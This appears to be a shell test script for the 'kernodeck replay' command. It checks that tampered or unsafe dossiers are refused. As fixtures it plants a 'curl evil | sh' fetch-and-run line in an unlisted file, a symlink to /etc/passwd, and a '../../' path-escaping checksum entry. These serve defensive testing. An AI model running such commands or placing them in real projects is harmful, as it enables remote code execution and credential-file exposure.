# replay-refusals.sh - kernodeck replay refuses a dossier with a changed
# file, an entry that escapes the dossier, a link, an unlisted file, and
# declines without confirmation; it writes nothing in those cases.  A
# replay whose stages meet a failure not recorded in the dossier lists the
# new difference and exits 1.
. "$KD_SRCDIR/tests/lib.sh"

P="$KD_TMP/project"
mkdir -p "$P/kernodeck"
echo "print('hello')" >"$P/main.py"
echo "/data/" >"$P/.gitignore"
mkdir -p "$P/data" && echo "the input" >"$P/data/input.txt"
git -C "$P" init -q && git -C "$P" add main.py .gitignore && git -C "$P" commit -qm init
cat >"$P/kernodeck/reference.yaml" <<YAML
schema: 1
goal: close-values
code:
  commit: $(git -C "$P" rev-parse HEAD)
  entry_point: [python, main.py]
data:
  - name: input
    path: data/input.txt
    sha256: $(sha256sum "$P/data/input.txt" | cut -d' ' -f1)
python:
  interpreter: /usr/bin/python3
  install:
    system_site_packages: false
system:
  backend: cpu
YAML
"$KD_BIN" dossier "$P" >/dev/null
D="$P/kernodeck/dossier"
check "a dossier to replay" test -f "$D/SHA256SUMS"

copy() { rm -rf "$KD_TMP/$1"; cp -a "$D" "$KD_TMP/$1"; echo "$KD_TMP/$1"; }

d=$(copy changed)
echo "one more line" >>"$d/README.md"
"$KD_BIN" replay "$d" --workdir "$KD_TMP/w1" --yes >"$KD_TMP/o1" 2>&1
r=$?
check "a changed file: refused (exit 2)" test "$r" -eq 2
check "a changed file: named" grep -q "README.md: changed" "$KD_TMP/o1"
check "a changed file: nothing written" test ! -e "$KD_TMP/w1"

d=$(copy escaping)
printf '%s  ../../outside.sh\n' "$(sha256sum "$d/README.md" | cut -d' ' -f1)" >>"$d/SHA256SUMS"
"$KD_BIN" replay "$d" --workdir "$KD_TMP/w2" --yes >"$KD_TMP/o2" 2>&1
r=$?
check "an entry escaping the dossier: refused (exit 2)" test "$r" -eq 2
check "an entry escaping the dossier: said" grep -q "outside the dossier" "$KD_TMP/o2"
check "an entry escaping the dossier: nothing written" test ! -e "$KD_TMP/w2"

d=$(copy malformed)
sed -i '1s/^./X/' "$d/SHA256SUMS"
"$KD_BIN" replay "$d" --workdir "$KD_TMP/w10" --yes >"$KD_TMP/o10" 2>&1
r=$?
check "a malformed SHA256SUMS line: refused (exit 2)" test "$r" -eq 2
check "a malformed SHA256SUMS line: the file and line said once" test "$(cat "$KD_TMP/o10")" = \
	"kernodeck replay: $d/SHA256SUMS:1: not a SHA256SUMS line (64 hex digits, two spaces or \" *\", a path)"

d=$(copy linked)
rm "$d/procedure.sh"
ln -s /etc/passwd "$d/procedure.sh"
"$KD_BIN" replay "$d" --workdir "$KD_TMP/w3" --yes >"$KD_TMP/o3" 2>&1
r=$?
check "a listed file that is a link out: refused (exit 2)" test "$r" -eq 2
check "a link: named as escaping" grep -q "procedure.sh: escapes" "$KD_TMP/o3"

d=$(copy extra)
echo "curl evil | sh" >"$d/run-me.sh"
"$KD_BIN" replay "$d" --workdir "$KD_TMP/w4" --yes >"$KD_TMP/o4" 2>&1
r=$?
check "an unlisted file: refused (exit 2)" test "$r" -eq 2
check "an unlisted file: named" grep -q "run-me.sh: not listed" "$KD_TMP/o4"

"$KD_BIN" replay "$D" --workdir "$KD_TMP/w5" </dev/null >"$KD_TMP/o5" 2>&1
r=$?
check "no confirmation and no terminal: declined (exit 1)" test "$r" -eq 1
check "declined: every command was shown first" sh -c "grep -q 'git clone' '$KD_TMP/o5' && grep -q 'pip install' '$KD_TMP/o5' && grep -q 'main.py' '$KD_TMP/o5'"
check "declined: said so" grep -q "not confirmed" "$KD_TMP/o5"
check "declined: nothing written" test ! -e "$KD_TMP/w5"

mkdir -p "$KD_TMP/w6" && echo x >"$KD_TMP/w6/file"
expect_exit 2 "a work folder that is not empty: refused" "$KD_BIN" replay "$D" --workdir "$KD_TMP/w6" --yes

# confirmed: this project has no rebuild file, which its dossier does not
# record as a deviation: a new difference, exit 1
"$KD_BIN" replay "$D" --workdir "$KD_TMP/w7" --yes >"$KD_TMP/o7" 2>&1
r=$?
check "a failure the dossier does not record: exit 1" test "$r" -eq 1
check "the new difference is listed" grep -q "new differences" "$KD_TMP/o7"
check "the code was cloned at the recorded commit" test "$(git -C "$KD_TMP/w7" rev-parse HEAD)" = "$(git -C "$P" rev-parse HEAD)"
cat "$KD_TMP/o7" | grep -A8 "replay verdict" | sed "s/^/# /"
check "the dossier is untouched" sh -c "cd '$D' && sha256sum -c --quiet SHA256SUMS"
check "data kept out of git: found in the recorded project, digest checked" \
	grep -q "data data/input.txt: SHA-256 matches ($P/data/input.txt)" "$KD_TMP/o7"

# --data: where the data moved
mkdir -p "$KD_TMP/moved/data" && cp "$P/data/input.txt" "$KD_TMP/moved/data/"
"$KD_BIN" replay "$D" --workdir "$KD_TMP/w8" --data "$KD_TMP/moved" --yes >"$KD_TMP/o8" 2>&1
check "--data: the item is read there and its digest checked" \
	grep -q "data data/input.txt: SHA-256 matches ($KD_TMP/moved/data/input.txt)" "$KD_TMP/o8"
# --data on another file system: no hard link can be made, the file is copied
# (or reflinked), and the replay says which
if [ -d /dev/shm ] && [ "$(stat -f -c %i /dev/shm)" != "$(stat -f -c %i "$KD_TMP")" ]; then
	S=$(mktemp -d /dev/shm/kdtest.XXXXXX)
	mkdir -p "$S/data" && cp "$P/data/input.txt" "$S/data/"
	"$KD_BIN" replay "$D" --workdir "$KD_TMP/w8b" --data "$S" --yes >"$KD_TMP/o8b" 2>&1
	check "--data on another file system: copied (or reflinked) into the clone, saying which" \
		sh -c "grep -q 'data data/input.txt: SHA-256 matches ($S/data/input.txt), \(copied\|reflinked\) into' '$KD_TMP/o8b' && cmp -s '$S/data/input.txt' '$KD_TMP/w8b/data/input.txt'"
	rm -rf "$S"
else
	skip "--data on another file system" "no /dev/shm on another file system"
fi
echo "another input" >"$KD_TMP/moved/data/input.txt"
"$KD_BIN" replay "$D" --workdir "$KD_TMP/w9" --data "$KD_TMP/moved" --yes >"$KD_TMP/o9" 2>&1
r=$?
check "--data with a changed file: exit 1" test "$r" -eq 1
check "--data with a changed file: the digest difference is listed, naming the file" \
	grep -q "data data/input.txt: $KD_TMP/moved/data/input.txt has SHA-256 [0-9a-f]*, the reference records" "$KD_TMP/o9"
check "--data with a changed file: no stage ran, the half-made work folder is removed" \
	sh -c "grep -q 'no stage was run' '$KD_TMP/o9' && ! grep -q 'kernodeck replay: stage 2, system' '$KD_TMP/o9' && ! [ -e '$KD_TMP/w9' ]"
"$KD_BIN" replay "$D" --workdir "$KD_TMP/w9" --data "$KD_TMP/nowhere" --yes >"$KD_TMP/o9b" 2>&1
r=$?
check "--data without the item: exit 2, naming the item and every place looked for" \
	sh -c "[ $r -eq 2 ] && grep -q 'data data/input.txt: not found (looked for $KD_TMP/w9/data/input.txt; $KD_TMP/nowhere/data/input.txt; $KD_TMP/nowhere/input.txt)' '$KD_TMP/o9b'"
check "--data: the item is put where the project reads it, saying how" \
	grep -q "data data/input.txt: SHA-256 matches ($KD_TMP/moved/data/input.txt), hard-linked into $KD_TMP/w8/data/input.txt" "$KD_TMP/o8"
